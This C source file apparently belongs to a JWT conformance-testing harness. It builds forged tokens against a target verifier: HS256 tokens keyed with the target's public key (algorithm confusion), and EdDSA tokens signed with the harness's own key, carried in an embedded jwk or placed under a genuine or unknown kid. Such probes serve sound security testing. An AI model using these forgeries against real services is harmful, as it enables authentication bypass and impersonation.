/* Forgeries that need keys (see hx/probes/forge.h): the target's own public
 * key used as an HMAC secret (algorithm confusion: a verifier that takes
 * the header's alg and hands the key it holds to HMAC), and tokens signed
 * with a key of the harness's own, either named in the header (an embedded
 * jwk, RFC 7515 §4.1.3, trusted by a careless verifier) or not (another
 * key's signature). */
#include "hx/probes/forge.h"

#include <jansson.h>
#include <openssl/bio.h>
#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/param_build.h>
#include <openssl/pem.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cmn/b64url.h"
#include "cmn/error.h"
#include "hx/jwt.h"

/* Decodes the base64url member `name` of jwk; returns new bytes or NULL. */
static unsigned char *
keys_member(const json_t *jwk, const char *name, size_t *len)
{
    const char *v = json_string_value(json_object_get(jwk, name));
    unsigned char *out = NULL;
    if (v == NULL || cmn_b64url_decode(v, strlen(v), &out, len) != 0)
        return NULL;
    return out;
}

/* The public key a JWK describes (OKP Ed25519/Ed448, RSA, EC P-256/384/521),
 * or NULL when it describes none of them. Returns new (EVP_PKEY_free). */
static EVP_PKEY *
keys_from_jwk(const json_t *jwk)
{
    const char *kty = json_string_value(json_object_get(jwk, "kty"));
    const char *crv = json_string_value(json_object_get(jwk, "crv"));
    EVP_PKEY *pkey = NULL;

    if (kty == NULL)
        return NULL;
    if (strcmp(kty, "OKP") == 0 && crv != NULL) {
        size_t n;
        unsigned char *x = keys_member(jwk, "x", &n);
        int type = strcmp(crv, "Ed25519") == 0 ? EVP_PKEY_ED25519
                   : strcmp(crv, "Ed448") == 0 ? EVP_PKEY_ED448
                                               : 0;
        if (x != NULL && type != 0)
            pkey = EVP_PKEY_new_raw_public_key(type, NULL, x, n);
        free(x);
        return pkey;
    }
    if (strcmp(kty, "RSA") == 0 || strcmp(kty, "EC") == 0) {
        bool rsa = strcmp(kty, "RSA") == 0;
        OSSL_PARAM_BLD *bld = OSSL_PARAM_BLD_new();
        OSSL_PARAM *params = NULL;
        EVP_PKEY_CTX *ctx = EVP_PKEY_CTX_new_from_name(NULL, rsa ? "RSA" : "EC", NULL);
        BIGNUM *nb = NULL, *eb = NULL;
        unsigned char *a = NULL, *b = NULL, *point = NULL;
        size_t an = 0, bn = 0;
        const char *group = crv == NULL                 ? NULL
                            : strcmp(crv, "P-256") == 0 ? "prime256v1"
                            : strcmp(crv, "P-384") == 0 ? "secp384r1"
                            : strcmp(crv, "P-521") == 0 ? "secp521r1"
                                                        : NULL;
        bool ok = bld != NULL && ctx != NULL;

        a = keys_member(jwk, rsa ? "n" : "x", &an);
        b = keys_member(jwk, rsa ? "e" : "y", &bn);
        ok = ok && a != NULL && b != NULL;
        if (ok && rsa) {
            nb = BN_bin2bn(a, (int)an, NULL);
            eb = BN_bin2bn(b, (int)bn, NULL);
            ok = nb != NULL && eb != NULL &&
                 OSSL_PARAM_BLD_push_BN(bld, OSSL_PKEY_PARAM_RSA_N, nb) &&
                 OSSL_PARAM_BLD_push_BN(bld, OSSL_PKEY_PARAM_RSA_E, eb);
        } else if (ok) {
            /* an uncompressed point: 0x04 || x || y */
            point = malloc(1 + an + bn);
            ok = group != NULL && point != NULL;
            if (ok) {
                point[0] = 4;
                memcpy(point + 1, a, an);
                memcpy(point + 1 + an, b, bn);
                ok = OSSL_PARAM_BLD_push_utf8_string(bld, OSSL_PKEY_PARAM_GROUP_NAME, group, 0) &&
                     OSSL_PARAM_BLD_push_octet_string(bld, OSSL_PKEY_PARAM_PUB_KEY, point,
                                                      1 + an + bn);
            }
        }
        if (ok)
            params = OSSL_PARAM_BLD_to_param(bld);
        if (params != NULL && EVP_PKEY_fromdata_init(ctx) == 1)
            EVP_PKEY_fromdata(ctx, &pkey, EVP_PKEY_PUBLIC_KEY, params);
        OSSL_PARAM_free(params);
        OSSL_PARAM_BLD_free(bld);
        EVP_PKEY_CTX_free(ctx);
        BN_free(nb);
        BN_free(eb);
        free(a);
        free(b);
        free(point);
        return pkey;
    }
    return NULL;
}

/* Returns new: the PEM (SubjectPublicKeyInfo) text of pkey. */
static char *
keys_pem(EVP_PKEY *pkey)
{
    BIO *bio = BIO_new(BIO_s_mem());
    char *data, *out = NULL;
    long n;

    if (bio != NULL && PEM_write_bio_PUBKEY(bio, pkey) == 1 &&
        (n = BIO_get_mem_data(bio, &data)) > 0) {
        out = malloc((size_t)n + 1);
        if (out != NULL) {
            memcpy(out, data, (size_t)n);
            out[n] = '\0';
        }
    }
    BIO_free(bio);
    return out;
}

/* The key of the JWKS that signed the genuine token: the one with its kid,
 * else the first. Borrowed from jwks. */
static const json_t *
keys_pick(const json_t *jwks, const char *kid)
{
    const json_t *keys = json_object_get(jwks, "keys");
    size_t i;
    json_t *k;

    json_array_foreach(keys, i, k)
    {
        const char *id = json_string_value(json_object_get(k, "kid"));
        if (kid != NULL && id != NULL && strcmp(kid, id) == 0)
            return k;
    }
    return json_array_get(keys, 0);
}

/* The genuine token's payload as JSON text; new. */
static char *
keys_payload(const struct hx_jwt *j)
{
    return hx_jwt_json(j->payload);
}

int
hx_forge_keys(const struct hx_forge_in *in, struct hx_forgery *out, size_t max, size_t *n,
              char *missing, size_t missing_size)
{
    struct hx_jwt j = {0};
    EVP_PKEY *mine = NULL, *theirs = NULL;
    char *payload = NULL;
    const char *kid;
    size_t k = 0;
    int rc = 0;

    *n = 0;
    if (hx_jwt_parse(in->token, &j, NULL, 0) != 0)
        return CMN_E_INVAL;
    kid = json_string_value(json_object_get(j.header, "kid"));
    payload = keys_payload(&j);
    mine = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519");
    if (payload == NULL || mine == NULL) {
        rc = CMN_E_NOMEM;
        goto out;
    }
    /* signed with the harness's own key, which the header carries */
    {
        unsigned char x[32];
        size_t xn = sizeof x;
        char *x64 = NULL, *header = NULL;
        json_t *jwk = NULL;
        if (EVP_PKEY_get_raw_public_key(mine, x, &xn) == 1 && (x64 = cmn_b64url_encode_new(x, xn)))
            jwk = json_pack("{s:s, s:s, s:s}", "kty", "OKP", "crv", "Ed25519", "x", x64);
        for (int variant = 0; variant < 3 && jwk != NULL && k + 1 < max; variant++) {
            /* with the jwk in the header; under the genuine kid (another key's
             * signature); under a kid the target's JWKS does not have */
            header = hx_forge_header("EdDSA",
                                     variant == 0   ? "authconform-own-key"
                                     : variant == 1 ? kid
                                                    : "authconform-unknown-kid",
                                     variant == 0 ? jwk : NULL, NULL, NULL);
            struct hx_jwt_build b = {.header_json = header,
                                     .payload_json = payload,
                                     .sig = HX_JWT_SIG_PKEY,
                                     .pkey = mine};
            char *tok = header != NULL ? hx_jwt_build(&b) : NULL;
            free(header);
            if (tok == NULL) {
                rc = CMN_E_NOMEM;
                break;
            }
            memset(&out[k], 0, sizeof out[k]);
            snprintf(out[k].name, sizeof out[k].name, "%s",
                     variant == 0   ? "embedded-jwk"
                     : variant == 1 ? "foreign-key"
                                    : "foreign-key-unknown-kid");
            snprintf(out[k].what, sizeof out[k].what, "%s",
                     variant == 0   ? "EdDSA signed with a key of the harness's own, carried in "
                                      "the header as a jwk"
                     : variant == 1 ? "EdDSA signed with a key of the harness's own, under the "
                                      "genuine kid"
                                    : "EdDSA signed with a key of the harness's own, under a kid "
                                      "the target's JWKS does not have");
            out[k].token = tok;
            out[k++].path = HX_FORGE_PATH_SELF;
        }
        free(x64);
        json_decref(jwk);
    }
    /* the target's public key as an HMAC secret */
    if (rc == 0 && in->jwks != NULL) {
        json_t *jwks = json_loads(in->jwks, 0, NULL);
        const json_t *key = keys_pick(jwks, kid);
        char *pem = NULL, *jwk_text = NULL;
        theirs = key != NULL ? keys_from_jwk(key) : NULL;
        if (theirs != NULL)
            pem = keys_pem(theirs);
        if (key != NULL)
            jwk_text = json_dumps(key, JSON_COMPACT | JSON_PRESERVE_ORDER);
        const struct {
            const char *name, *what, *key;
            size_t len;
        } secrets[] = {
            {"hs256-public-key-pem", "HS256 keyed with the target's public key (PEM)", pem,
             pem != NULL ? strlen(pem) : 0},
            {"hs256-public-key-pem-trimmed",
             "HS256 keyed with the target's public key (PEM, no final newline)", pem,
             pem != NULL && strlen(pem) > 0 ? strlen(pem) - 1 : 0},
            {"hs256-public-key-jwk", "HS256 keyed with the target's public key (its JWK text)",
             jwk_text, jwk_text != NULL ? strlen(jwk_text) : 0},
        };
        char *header = hx_forge_header("HS256", kid, NULL, NULL, NULL);
        for (size_t i = 0; i < sizeof secrets / sizeof *secrets && header != NULL; i++) {
            if (secrets[i].key == NULL || secrets[i].len == 0 || k >= max)
                continue;
            struct hx_jwt_build b = {.header_json = header,
                                     .payload_json = payload,
                                     .sig = HX_JWT_SIG_HMAC,
                                     .alg_for_mac = "HS256",
                                     .key = secrets[i].key,
                                     .key_len = secrets[i].len};
            char *tok = hx_jwt_build(&b);
            if (tok == NULL)
                continue;
            memset(&out[k], 0, sizeof out[k]);
            snprintf(out[k].name, sizeof out[k].name, "%s", secrets[i].name);
            snprintf(out[k].what, sizeof out[k].what, "%s", secrets[i].what);
            out[k].token = tok;
            out[k++].path = HX_FORGE_PATH_SELF;
        }
        if (key == NULL)
            snprintf(missing, missing_size, "the public-key HMAC tokens (the JWKS has no key)");
        else if (theirs == NULL)
            snprintf(missing, missing_size,
                     "the public-key PEM HMAC tokens (a JWK of a kind not read here)");
        free(header);
        free(pem);
        free(jwk_text);
        json_decref(jwks);
    } else if (missing != NULL && missing_size > 0) {
        snprintf(missing, missing_size,
                 "the public-key HMAC tokens (no JWKS: the profile has no paths.jwks, or the "
                 "target's tokens are HMAC-signed)");
    }
out:
    *n = k;
    EVP_PKEY_free(mine);
    EVP_PKEY_free(theirs);
    free(payload);
    hx_jwt_cleanup(&j);
    return rc;
}
